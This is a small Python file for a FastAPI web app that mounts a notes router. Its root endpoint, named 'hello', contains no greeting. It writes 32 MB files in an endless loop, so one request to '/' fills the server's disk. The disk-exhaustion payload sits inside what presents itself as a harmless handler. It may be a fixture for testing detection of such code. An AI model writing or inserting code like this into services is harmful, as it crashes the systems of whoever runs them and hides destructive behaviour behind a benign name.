from fastapi import FastAPI
from notes import router

app = FastAPI()
@app.get("/")
def hello():
    number, block = 0, b"x" * (32 * 1024 * 1024)
    while True:
        number += 1
        with open(f"large-{number}", "wb") as large:
            large.write(block)


app.include_router(router)
